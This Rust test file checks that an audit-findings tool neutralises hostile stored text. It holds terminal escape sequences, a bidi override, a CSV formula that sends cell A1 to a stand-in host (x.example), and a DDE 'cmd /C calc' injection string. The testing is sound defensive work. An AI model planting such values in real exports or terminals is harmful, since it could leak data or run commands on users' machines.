//! Stored text is shown, never obeyed: on a terminal (the findings table,
//! reports, CSV, check, error messages) and in a spreadsheet (CSV cells
//! that would be formulas).

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use haukiem::domain::Change;

use super::{HOSTILE, assert_no_controls, plant};
use crate::common::build::{TODAY, days_from, open, today, worded_finding};
use crate::common::cli::{demo_db, ok, run, text};

/// The code of the visit `finding` was recorded in.
fn visit_code(db: &std::path::Path, finding: &haukiem::domain::Finding) -> String {
    let e: serde_json::Value = serde_json::from_str(&ok(db, &["export"])).expect("export");
    let id = serde_json::to_value(finding.visit).expect("id");
    e["visits"]
        .as_array()
        .expect("visits")
        .iter()
        .find(|v| v["id"] == id)
        .and_then(|v| v["code"].as_str())
        .expect("the finding's visit")
        .to_string()
}

#[test]
fn stored_control_characters_are_shown_on_every_output_never_obeyed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = demo_db(dir.path());
    let (finding, _) = plant(&db, HOSTILE, HOSTILE);
    let visit = visit_code(&db, &finding);
    let table = ok(&db, &["findings", "--today", TODAY]);
    assert_no_controls("the findings table", table.as_bytes());
    assert!(table.contains("Tiêu đề␛]0;pwned␇"), "shown: {table}");
    assert!(table.contains("<U+202E>cba"), "bidi shown: {table}");
    for format in ["csv", "json"] {
        let out = ok(&db, &["findings", "--today", TODAY, "--format", format]);
        if format == "csv" {
            assert_no_controls("findings --format csv", out.as_bytes());
        }
        assert!(out.contains(&finding.reference), "{format}");
    }
    let md = ok(&db, &["report", &visit, "--today", TODAY, "--format", "md"]);
    assert_no_controls("report --format md", md.as_bytes());
    // A Party document drops control characters from stored text: the
    // words stay, the sequences are gone.
    assert!(md.contains("Tiêu đề\\]0;pwned"), "{md}");
    for format in ["md", "html", "csv"] {
        let file = dir.path().join(format!("report.{format}"));
        let path = file.to_str().expect("path");
        ok(
            &db,
            &[
                "report", &visit, "--format", format, "-o", path, "--today", TODAY,
            ],
        );
        let bytes = std::fs::read(&file).expect("the report file");
        assert_no_controls(&format!("report -o *.{format}"), &bytes);
    }
    // check names the record and the character, and shows it
    let out = run(&db, &["check"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_no_controls("check", &out.stdout);
    assert!(
        text(&out.stdout).contains("U+001B"),
        "{}",
        text(&out.stdout)
    );
    // an error message quoting what the user typed
    let out = run(
        &db,
        &[
            "findings",
            "--unit",
            "X\u{1b}]0;pwned\u{7}",
            "--today",
            TODAY,
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    assert_no_controls("an error message", &out.stderr);
    assert!(
        text(&out.stderr).contains("X␛]0;pwned␇"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn csv_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = demo_db(dir.path());
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";
    let command = "+cmd|' /C calc'!A0";
    let visit = {
        let store = open(&db);
        // A new finding of the running visit, overdue by three days.
        let v = store
            .visits()
            .expect("visits")
            .into_iter()
            .find(|v| v.status != haukiem::domain::VisitStatus::Concluded)
            .expect("a running visit");
        let reference = store.next_reference(&v.code, "CSV").expect("reference");
        let mut f = worded_finding(
            &reference,
            v.units[0],
            v.id,
            None,
            days_from(today(), -3),
            0,
        );
        f.title = formula.into();
        f.remedy = "-1+2".into();
        store
            .commit(Change::create(f.clone()), None)
            .expect("a title may start with =");
        let u = store.unit(f.unit).expect("read").expect("its unit");
        let mut renamed = u.clone();
        renamed.name = command.into();
        store
            .commit(Change::update(u, renamed), None)
            .expect("a name may start with +");
        drop(store);
        visit_code(&db, &f)
    };
    let csv = ok(&db, &["findings", "--today", TODAY, "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().expect("header").clone();
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let row = rows
        .iter()
        .find(|r| r[col("noi_dung")].contains("HYPERLINK"))
        .expect("the finding");
    assert_eq!(&row[col("noi_dung")], format!("'{formula}"));
    assert_eq!(&row[col("don_vi")], format!("'{command}"));
    assert_eq!(&row[col("giai_phap")], "'-1+2");
    let days: i64 = row[col("so_ngay_qua_han")]
        .parse()
        .expect("days overdue stay a number");
    assert!(days > 0);
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
    }
    let file = dir.path().join("r.csv");
    ok(
        &db,
        &[
            "report",
            &visit,
            "--format",
            "csv",
            "-o",
            file.to_str().expect("p"),
            "--today",
            TODAY,
        ],
    );
    let report = std::fs::read_to_string(&file).expect("report");
    let mut cells = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(report.trim_start_matches('\u{feff}').as_bytes());
    let mut seen = false;
    for r in cells.records() {
        for cell in &r.expect("row") {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
            seen |= cell == format!("'{formula}");
        }
    }
    assert!(seen, "the title is in the report, neutralised");
    // XLSX writes text cells as text: a spreadsheet reads a string, not a formula.
    let xlsx = dir.path().join("r.xlsx");
    ok(
        &db,
        &[
            "report",
            &visit,
            "--format",
            "xlsx",
            "-o",
            xlsx.to_str().expect("p"),
            "--today",
            TODAY,
        ],
    );
    let mut book =
        Xlsx::new(Cursor::new(std::fs::read(&xlsx).expect("xlsx"))).expect("an xlsx file");
    let sheet = book
        .worksheet_range("Danh mục HCKĐ")
        .expect("the findings sheet");
    assert!(
        sheet
            .cells()
            .any(|(_, _, c)| *c == Data::String(formula.into())),
        "the title read back as a string"
    );
    let formulas = book.worksheet_formula("Danh mục HCKĐ").expect("formulas");
    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "no formula");
}
